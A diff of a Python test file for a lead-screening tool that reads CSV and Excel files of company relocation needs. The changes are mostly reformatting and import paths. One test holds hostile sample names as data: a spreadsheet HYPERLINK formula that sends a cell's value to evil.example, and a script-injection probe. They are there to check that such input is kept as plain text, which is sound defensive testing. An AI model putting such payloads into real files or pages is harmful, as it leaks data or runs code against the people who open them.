@@ -13,15 +13,21 @@ from hypothesis import strategies as st
 from openpyxl import Workbook
 
 from siting import SitingInputError
-from siting.leads import read_leads
-from siting.screen import STATUSES, screen_leads
+from siting.inputs.leads import read_leads
+from siting.jobs.screen import STATUSES, screen_leads
 
 HEADER = ["id", "name", "municipality", "year", "land_ha", "power_mw", "talent_hbo"]
 GOOD = ["L1", "Photonics scale-up", "Eindhoven", "2028", "1.5", "0.05", "20"]
 
 
-def write_leads(folder: Path, rows: list[list[str]], *, sep: str = ",", name: str = "leads.csv",
-                bom: bool = False) -> Path:
+def write_leads(
+    folder: Path,
+    rows: list[list[str]],
+    *,
+    sep: str = ",",
+    name: str = "leads.csv",
+    bom: bool = False,
+) -> Path:
     """Write rows (header first) as a CSV leads file."""
     buffer = io.StringIO()
     csv.writer(buffer, delimiter=sep, lineterminator="\n").writerows(rows)
@@ -30,8 +36,9 @@ def write_leads(folder: Path, rows: list[list[str]], *, sep: str = ",", name: st
     return path
 
 
-def write_xlsx(folder: Path, rows: list[list[object]], *, name: str = "leads.xlsx",
-               sheet: str = "pipeline") -> Path:
+def write_xlsx(
+    folder: Path, rows: list[list[object]], *, name: str = "leads.xlsx", sheet: str = "pipeline"
+) -> Path:
     book = Workbook()
     ws = book.active
     assert ws is not None
@@ -67,25 +74,38 @@ def test_semicolon_file_with_bom_and_decimal_commas_is_read(tmp_path: Path):
 
 
 def test_decimal_comma_in_a_comma_file_is_a_located_error_with_a_hint(tmp_path: Path):
-    table = read_leads(write_leads(tmp_path, [HEADER, ["L1", "A", "Delft", "2028", "2,5",
-                                                       "1", "1"]]))
+    table = read_leads(
+        write_leads(tmp_path, [HEADER, ["L1", "A", "Delft", "2028", "2,5", "1", "1"]])
+    )
     [problem] = table.leads[0].problems
     assert (problem.row, problem.column) == (2, "land_ha")
     assert "'2,5'" in problem.message and "decimal point" in problem.message
 
 
 def test_blank_rows_are_skipped_and_counted(tmp_path: Path):
-    rows = [HEADER, GOOD, ["", "", "", "", "", "", ""], [], ["L2", "B", "Leiden", "2029",
-                                                               "1", "1", "1"]]
+    rows = [
+        HEADER,
+        GOOD,
+        ["", "", "", "", "", "", ""],
+        [],
+        ["L2", "B", "Leiden", "2029", "1", "1", "1"],
+    ]
     table = read_leads(write_leads(tmp_path, rows))
     assert [lead.row for lead in table.leads] == [2, 5]
     assert table.blank_rows == 2
 
 
 def test_full_key_names_and_weights_columns_are_accepted(tmp_path: Path):
-    rows = [["company.id", "company.current_location.municipality", "needs.year",
-             "needs.talent.wo", "weights.talent_fit"],
-            ["L1", "Utrecht", "2027", "10", "2"]]
+    rows = [
+        [
+            "company.id",
+            "company.current_location.municipality",
+            "needs.year",
+            "needs.talent.wo",
+            "weights.talent_fit",
+        ],
+        ["L1", "Utrecht", "2027", "10", "2"],
+    ]
     lead = read_leads(write_leads(tmp_path, rows)).leads[0]
     assert lead.valid, lead.problems
     assert lead.profile.needs.talent.wo == 10 and lead.profile.weights == {"talent_fit": 2.0}
@@ -102,8 +122,11 @@ def test_extra_columns_asked_for_are_kept_not_warned(tmp_path: Path):
 
 
 def test_text_in_number_fields_gives_every_problem_of_the_row(tmp_path: Path):
-    rows = [HEADER, ["L1", "A", "Eindhoven", "soon", "lots", "a few", "20"],
-            ["L2", "B", "Eindhoven", "2028", "1", "1", "1"]]
+    rows = [
+        HEADER,
+        ["L1", "A", "Eindhoven", "soon", "lots", "a few", "20"],
+        ["L2", "B", "Eindhoven", "2028", "1", "1", "1"],
+    ]
     table = read_leads(write_leads(tmp_path, rows))
     bad, good = table.leads
     assert not bad.valid and good.valid
@@ -136,8 +159,12 @@ def test_duplicate_ids_make_both_rows_invalid_naming_each_other(tmp_path: Path):
 
 
 def test_a_row_without_id_gets_a_synthetic_id_and_is_reported(tmp_path: Path):
-    rows = [HEADER, GOOD, ["", "No id", "Delft", "2028", "1", "1", "1"],
-            ["", "No id either", "Delft", "2028", "1", "1", "1"]]
+    rows = [
+        HEADER,
+        GOOD,
+        ["", "No id", "Delft", "2028", "1", "1", "1"],
+        ["", "No id either", "Delft", "2028", "1", "1", "1"],
+    ]
     table = read_leads(write_leads(tmp_path, rows))
     assert [lead.lead_id for lead in table.leads] == ["L1", "row-3", "row-4"]
     for lead in table.leads[1:]:
@@ -146,8 +173,11 @@ def test_a_row_without_id_gets_a_synthetic_id_and_is_reported(tmp_path: Path):
 
 
 def test_unknown_columns_are_one_warning_not_an_error(tmp_path: Path):
-    rows = [[*HEADER, "colour", "needs.warp_factor"], [*GOOD, "red", "9"],
-            ["L2", "B", "Delft", "2028", "1", "1", "1", "blue", "8"]]
+    rows = [
+        [*HEADER, "colour", "needs.warp_factor"],
+        [*GOOD, "red", "9"],
+        ["L2", "B", "Delft", "2028", "1", "1", "1", "blue", "8"],
+    ]
     table = read_leads(write_leads(tmp_path, rows))
     assert all(lead.valid for lead in table.leads)
     assert sorted(w.column for w in table.warnings) == ["colour", "needs.warp_factor"]
@@ -156,8 +186,7 @@ def test_unknown_columns_are_one_warning_not_an_error(tmp_path: Path):
 
 def test_a_row_with_too_many_cells_is_invalid(tmp_path: Path):
     path = tmp_path / "leads.csv"
-    path.write_text(",".join(HEADER) + "\nL1,Acme, Inc.,Eindhoven,2028,1,1,1\n",
-                    encoding="utf-8")
+    path.write_text(",".join(HEADER) + "\nL1,Acme, Inc.,Eindhoven,2028,1,1,1\n", encoding="utf-8")
     [lead] = read_leads(path).leads
     assert not lead.valid
     assert any("8 cells but the header has 7" in p.message for p in lead.problems)
@@ -165,8 +194,10 @@ def test_a_row_with_too_many_cells_is_invalid(tmp_path: Path):
 
 def test_hostile_names_are_kept_verbatim_as_data(tmp_path: Path):
     hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "<script>alert(1)</script>"]
-    rows = [HEADER, *[[f"H{k}", name, "Delft", "2028", "1", "1", "1"]
-                      for k, name in enumerate(hostile)]]
+    rows = [
+        HEADER,
+        *[[f"H{k}", name, "Delft", "2028", "1", "1", "1"] for k, name in enumerate(hostile)],
+    ]
     table = read_leads(write_leads(tmp_path, rows))
     assert [lead.profile.company.name for lead in table.leads] == hostile
 
@@ -248,9 +279,12 @@ def test_excel_named_sheet_and_unknown_sheet(tmp_path: Path):
 
 
 def test_unknown_municipality_and_criterion_are_the_leads_invalid_input(tmp_path: Path):
-    rows = [[*HEADER, "weights.charisma"], [*GOOD, ""],
-            ["L2", "B", "Atlantis", "2028", "1", "1", "1", ""],
-            ["L3", "C", "Delft", "2028", "1", "1", "1", "2"]]
+    rows = [
+        [*HEADER, "weights.charisma"],
+        [*GOOD, ""],
+        ["L2", "B", "Atlantis", "2028", "1", "1", "1", ""],
+        ["L3", "C", "Delft", "2028", "1", "1", "1", "2"],
+    ]
     result = screen_leads(write_leads(tmp_path, rows))
     ok, atlantis, charisma = result.leads
     assert ok.status == "ok"
@@ -263,23 +297,53 @@ def test_unknown_municipality_and_criterion_are_the_leads_invalid_input(tmp_path
 
 # --- fuzzing: random text in random fields ----------------------------------------------------
 
-FIELDS = ["id", "name", "nts_domains", "municipality", "lat", "lon", "year", "land_ha",
-          "cleanroom_m2", "vibration_free", "environmental_category", "power_mw", "talent_mbo",
-          "talent_wo", "max_relocation_km", "exclude_provinces", "space_types", "allow_unknown"]
-BASE = {"id": "F1", "name": "Fuzz", "municipality": "Eindhoven", "year": "2028",
-        "land_ha": "1", "power_mw": "0.5"}
-cell_text = st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"),
-                    max_size=12)
+FIELDS = [
+    "id",
+    "name",
+    "nts_domains",
+    "municipality",
+    "lat",
+    "lon",
+    "year",
+    "land_ha",
+    "cleanroom_m2",
+    "vibration_free",
+    "environmental_category",
+    "power_mw",
+    "talent_mbo",
+    "talent_wo",
+    "max_relocation_km",
+    "exclude_provinces",
+    "space_types",
+    "allow_unknown",
+]
+BASE = {
+    "id": "F1",
+    "name": "Fuzz",
+    "municipality": "Eindhoven",
+    "year": "2028",
+    "land_ha": "1",
+    "power_mw": "0.5",
+}
+cell_text = st.text(
+    st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), max_size=12
+)
 
 
-@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow,
-                                                                  HealthCheck.function_scoped_fixture])
-@given(changes=st.dictionaries(st.sampled_from(FIELDS), cell_text, max_size=5),
-       sep=st.sampled_from([",", ";"]))
+@settings(
+    max_examples=60,
+    deadline=None,
+    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
+)
+@given(
+    changes=st.dictionaries(st.sampled_from(FIELDS), cell_text, max_size=5),
+    sep=st.sampled_from([",", ";"]),
+)
 def test_fuzzed_rows_never_crash_and_every_problem_is_located(tmp_path: Path, changes, sep):
     record = {**BASE, **changes}
-    path = write_leads(tmp_path, [FIELDS, [record.get(f, "") for f in FIELDS]], sep=sep,
-                       name="fuzz.csv")
+    path = write_leads(
+        tmp_path, [FIELDS, [record.get(f, "") for f in FIELDS]], sep=sep, name="fuzz.csv"
+    )
     try:
         table = read_leads(path)
     except SitingInputError as exc:
